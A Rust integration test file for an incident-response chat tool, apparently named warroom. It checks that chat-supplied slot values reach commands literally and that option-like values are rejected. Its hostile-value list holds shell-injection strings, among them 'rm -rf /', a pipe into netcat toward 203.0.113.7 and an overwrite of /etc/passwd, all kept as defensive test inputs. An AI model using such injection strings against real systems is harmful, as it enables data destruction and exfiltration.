//! Command preparation and execution against real programs: the demo's
//! `echo-args` shows the exact argv a slot value produces, and the shipped
//! intents run the demo end to end.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};

use warroom::commands::{CommandError, CommandRunner, prepare};
use warroom::intent::{Catalog, CommandSpec, Intent, IntentName, Risk, SlotSpec};
use warroom::slots::SlotKind;

/// Values a chat message could carry to try shell injection or option
/// injection.
const HOSTILE_VALUES: [&str; 16] = [
    "`id`",
    "$(id)",
    "web-01; rm -rf /",
    "web-01 && reboot",
    "web-01 | nc 203.0.113.7 4444",
    "web-01\nreboot",
    "web-01\r\n--force",
    "-rf",
    "--help",
    "--",
    "'single' \"double\"",
    "$HOME ${PATH}",
    "*",
    "\ttab",
    "web-01 > /etc/passwd",
    "€ ünïcödé",
];

fn demo_binary() -> PathBuf {
    PathBuf::from(env!("CARGO_BIN_EXE_warroom-demo"))
}

fn runner() -> CommandRunner {
    let dir = demo_binary()
        .parent()
        .expect("the demo binary has a directory")
        .to_path_buf();
    CommandRunner::new(vec![dir])
}

fn echo_intent() -> Intent {
    let slot = |name: &str| SlotSpec {
        name: name.to_string(),
        kind: SlotKind::Text,
        required: false,
        group: None,
        secret: false,
    };
    Intent {
        name: IntentName::new("test.echo"),
        description: "Print the arguments.".to_string(),
        risk: Risk::Read,
        command: CommandSpec {
            program: "warroom-demo".to_string(),
            args: vec![
                "echo-args".to_string(),
                "--text={text}".to_string(),
                "{target}".to_string(),
            ],
        },
        slots: vec![slot("text"), slot("target")],
        exemplars: Vec::new(),
        negatives: Vec::new(),
        source: PathBuf::from("test.toml"),
    }
}

fn values(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(name, value)| (name.to_string(), value.to_string()))
        .collect()
}

/// Runs `echo-args` with the slot values and returns the argv it received
/// after `echo-args`.
fn received_argv(slots: &BTreeMap<String, String>) -> Result<Vec<String>, CommandError> {
    let command = prepare(&echo_intent(), slots)?;
    let output = runner().run(&command).expect("echo-args runs");
    assert_eq!(output.exit_code, Some(0), "stderr: {}", output.stderr);
    Ok(serde_json::from_str(output.stdout.trim()).expect("echo-args prints a JSON array"))
}

/// Copies the shipped demo data to a temporary directory, so changing
/// commands write their state there.
fn demo_copy() -> tempfile::TempDir {
    let copy = tempfile::tempdir().expect("temporary directory");
    let source = Path::new(env!("CARGO_MANIFEST_DIR")).join("demo");
    copy_dir(&source, copy.path());
    copy
}

fn copy_dir(from: &Path, to: &Path) {
    for entry in fs::read_dir(from).expect("readable demo directory") {
        let entry = entry.expect("directory entry");
        let target = to.join(entry.file_name());
        if entry.file_name() == "state" {
            continue;
        }
        if entry.file_type().expect("file type").is_dir() {
            fs::create_dir_all(&target).expect("create directory");
            copy_dir(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), &target).expect("copy file");
        }
    }
}

fn demo_runner(demo_dir: &Path) -> CommandRunner {
    let mut runner = runner();
    runner.env_set.insert(
        "WARROOM_DEMO_DIR".to_string(),
        demo_dir.display().to_string(),
    );
    runner.env_set.insert(
        "WARROOM_DEMO_NOW".to_string(),
        "2025-06-12T12:00:00Z".to_string(),
    );
    runner
}

#[test]
fn hostile_value_inside_argument_arrives_literally() {
    for value in HOSTILE_VALUES {
        let argv = received_argv(&values(&[("text", value)])).unwrap();
        assert_eq!(argv, [format!("--text={value}")], "value {value:?}");
    }
}

#[test]
fn hostile_whole_argument_literal_or_rejected() {
    for value in HOSTILE_VALUES {
        match received_argv(&values(&[("target", value)])) {
            Ok(argv) => {
                assert!(!value.starts_with('-'), "{value:?} was not rejected");
                assert_eq!(argv, [value], "value {value:?}");
            }
            Err(error) => {
                assert!(value.starts_with('-'), "{value:?} rejected: {error}");
                assert!(matches!(error, CommandError::LeadingDash { .. }), "{error}");
            }
        }
    }
}

#[test]
fn nul_in_value_is_rejected_before_running() {
    let error = prepare(&echo_intent(), &values(&[("text", "web-01\0--force")])).unwrap_err();
    assert!(matches!(error, CommandError::NulInValue { .. }), "{error}");
}

#[test]
fn shell_syntax_in_values_runs_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let marker = |name: &str| dir.path().join(name);
    let attempts = [
        format!("$(touch {})", marker("dollar").display()),
        format!("`touch {}`", marker("backtick").display()),
        format!("x; touch {}", marker("semicolon").display()),
        format!("x && touch {}", marker("and").display()),
        format!("x | touch {}", marker("pipe").display()),
        format!("x\ntouch {}", marker("newline").display()),
    ];
    for attempt in &attempts {
        let argv = received_argv(&values(&[("text", attempt), ("target", attempt)])).unwrap();
        assert_eq!(argv, [format!("--text={attempt}"), attempt.clone()]);
    }
    for name in ["dollar", "backtick", "semicolon", "and", "pipe", "newline"] {
        assert!(!marker(name).exists(), "{name} attempt ran a command");
    }
}

#[test]
fn absent_optional_slots_add_no_arguments() {
    assert_eq!(received_argv(&values(&[])).unwrap(), Vec::<String>::new());
}

#[test]
fn shipped_read_intent_runs_demo() {
    let demo = demo_copy();
    let catalog = Catalog::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("intents")).unwrap();
    let intent = catalog.get("server.health").unwrap();
    let command = prepare(intent, &values(&[("host", "web-01")])).unwrap();
    assert_eq!(command.args, ["server-health", "--host=web-01"]);

    let output = demo_runner(demo.path()).run(&command).unwrap();
    assert_eq!(output.exit_code, Some(0), "stderr: {}", output.stderr);
    assert!(
        output.stdout.starts_with("web-01 (production, web)"),
        "{}",
        output.stdout
    );
    assert!(output.stdout.contains("Status: OK"), "{}", output.stdout);
}

#[test]
fn shipped_critical_intent_changes_state_once() {
    let demo = demo_copy();
    let catalog = Catalog::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("intents")).unwrap();
    let intent = catalog.get("ip.block").unwrap();
    let command = prepare(
        intent,
        &values(&[("ip", "203.0.113.7"), ("duration", "3600")]),
    )
    .unwrap();
    assert_eq!(
        command.args,
        ["ip-block", "--ip=203.0.113.7", "--duration=3600"]
    );
    let runner = demo_runner(demo.path());

    let first = runner.run(&command).unwrap();
    assert_eq!(first.exit_code, Some(0), "stderr: {}", first.stderr);
    assert!(
        first.stdout.starts_with("Blocked 203.0.113.7"),
        "{}",
        first.stdout
    );
    assert!(demo.path().join("state/blocklist.json").is_file());

    let second = runner.run(&command).unwrap();
    assert_eq!(second.exit_code, Some(0), "stderr: {}", second.stderr);
    assert!(
        second.stdout.contains("already blocked"),
        "{}",
        second.stdout
    );
}

#[test]
fn demo_rejects_unknown_host_with_status_2() {
    let demo = demo_copy();
    let catalog = Catalog::load(&Path::new(env!("CARGO_MANIFEST_DIR")).join("intents")).unwrap();
    let intent = catalog.get("host.isolate").unwrap();
    let command = prepare(intent, &values(&[("host", "web-99")])).unwrap();

    let output = demo_runner(demo.path()).run(&command).unwrap();
    assert_eq!(output.exit_code, Some(2));
    assert!(
        output.stderr.contains("unknown host `web-99`"),
        "{}",
        output.stderr
    );
    assert!(!demo.path().join("state/isolated-hosts.json").exists());
}

/// Realistic slot values for every shipped intent, as the slot extractors
/// would pass them.
const EVERY_INTENT: [(&str, &[(&str, &str)]); 26] = [
    (
        "alerts.list",
        &[
            ("time_range", "2025-06-12T00:00:00Z/2025-06-12T12:00:00Z"),
            ("severity", "high"),
            ("host", "web-04"),
        ],
    ),
    ("alert.explain", &[("alert_id", "ALRT-2215")]),
    (
        "alert.silence",
        &[
            ("duration", "7200"),
            ("host", "web-04"),
            ("alert_id", "ALRT-2215"),
        ],
    ),
    (
        "deploy.history",
        &[
            ("service", "payments-api"),
            ("environment", "production"),
            ("time_range", "2025-06-10T00:00:00Z/2025-06-12T12:00:00Z"),
        ],
    ),
    (
        "deploy.rollback",
        &[
            ("service", "payments-api"),
            ("environment", "production"),
            ("version", "v2.14.0"),
        ],
    ),
    ("help", &[("topic", "incident")]),
    ("incident.status", &[("incident_id", "INC-4821")]),
    ("incident.list", &[]),
    (
        "incident.declare",
        &[
            ("title", "checkout returns 502 for all users"),
            ("severity", "critical"),
        ],
    ),
    ("incident.resolve", &[("incident_id", "INC-4810")]),
    ("oncall.who", &[("team", "sre")]),
    (
        "oncall.page",
        &[("team", "dba"), ("message", "db-01 WAL disk at 91%")],
    ),
    ("server.health", &[("host", "db-01")]),
    (
        "server.logs",
        &[
            ("host", "api-03"),
            ("service", "payments-api"),
            ("time_range", "2025-06-12T11:00:00Z/2025-06-12T12:00:00Z"),
        ],
    ),
    (
        "service.status",
        &[("service", "tomcat"), ("host", "app-02")],
    ),
    (
        "service.restart",
        &[("service", "tomcat"), ("host", "app-02")],
    ),
    ("ip.lookup", &[("ip", "203.0.113.7")]),
    (
        "hash.lookup",
        &[("hash", "44d88612fea8a8f36de82e1278abb02f")],
    ),
    (
        "ip.block",
        &[("cidr", "198.51.100.0/24"), ("duration", "86400")],
    ),
    (
        "file.quarantine",
        &[
            (
                "hash",
                "d423d650bc7ccf4b8ed0cb90a9008f1fa41f9e958f62e18ed4b11b5278dd4d50",
            ),
            ("host", "fs-01"),
        ],
    ),
    ("host.isolate", &[("host", "worker-12")]),
    (
        "user.activity",
        &[
            ("user", "jdoe"),
            ("time_range", "2025-06-12T00:00:00Z/2025-06-12T12:00:00Z"),
        ],
    ),
    ("user.disable", &[("user", "jdoe")]),
    ("vuln.lookup", &[("cve", "CVE-2024-3094")]),
    (
        "vuln.exposure",
        &[("cve", "CVE-2024-6387"), ("host", "web-02")],
    ),
    (
        "patch.apply",
        &[
            ("host", "web-02"),
            ("cve", "CVE-2024-6387"),
            ("package", "openssh-server"),
        ],
    ),
];

#[test]
fn every_shipped_intent_runs_demo_with_all_slots() {
    let demo = demo_copy();
    let intents_dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("intents");
    let catalog = Catalog::load(&intents_dir).unwrap();
    let mut runner = demo_runner(demo.path());
    runner.env_set.insert(
        "WARROOM_INTENTS_DIR".to_string(),
        intents_dir.display().to_string(),
    );

    let mut covered: Vec<&str> = EVERY_INTENT.iter().map(|(name, _)| *name).collect();
    covered.sort_unstable();
    let mut shipped: Vec<&str> = catalog
        .intents()
        .iter()
        .map(|intent| intent.name.as_str())
        .collect();
    shipped.sort_unstable();
    assert_eq!(
        covered, shipped,
        "the table must cover every shipped intent"
    );

    for (name, slots) in EVERY_INTENT {
        let intent = catalog.get(name).unwrap();
        let command = prepare(intent, &values(slots)).unwrap();
        let output = runner.run(&command).unwrap();
        assert_eq!(
            output.exit_code,
            Some(0),
            "{}: stdout {:?} stderr {:?}",
            command.display(),
            output.stdout,
            output.stderr
        );
        assert!(!output.stdout.trim().is_empty(), "{name} printed nothing");
    }
}
